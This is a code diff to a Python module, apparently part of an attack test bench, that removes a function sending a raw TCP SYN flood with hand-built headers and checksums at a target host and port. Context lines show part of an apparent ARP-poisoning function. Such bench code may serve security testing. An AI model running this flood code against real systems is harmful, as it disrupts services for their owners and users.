@@ -5,7 +5,7 @@ import socket
 import struct
 import time
 
-from bench.attacks.host_base import checksum, say
+from bench.attacks.host_base import say
 
 
 def poison(interface: str, own: str, victim: str, victim_mac: str, claimed: str, seconds: str) -> None:
@@ -31,23 +31,3 @@ def poison(interface: str, own: str, victim: str, victim_mac: str, claimed: str,
                     say(target=socket.inet_ntoa(frame[30:34]), proto=frame[23])
                     return
     say(target="")
-
-
-def flood(source: str, address: str, port: str, seconds: str) -> None:
-    here, there = socket.inet_aton(source), socket.inet_aton(address)
-    sent = refused = 0
-    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as sock:
-        sock.connect((address, 0))
-        say(ready=True)
-        ends = time.monotonic() + float(seconds)
-        while time.monotonic() < ends:
-            for _ in range(256):
-                sport = 1024 + sent % 64000
-                head = struct.pack(">HHIIBBHHH", sport, int(port), sent & 0xFFFFFFFF, 0, 0x50, 2, 1024, 0, 0)
-                total = checksum(here + there + struct.pack(">BBH", 0, 6, 20) + head)
-                try:
-                    sock.send(head[:16] + struct.pack(">H", total) + head[18:])
-                except OSError:
-                    refused += 1
-                sent += 1
-    say(sent=sent, refused=refused)
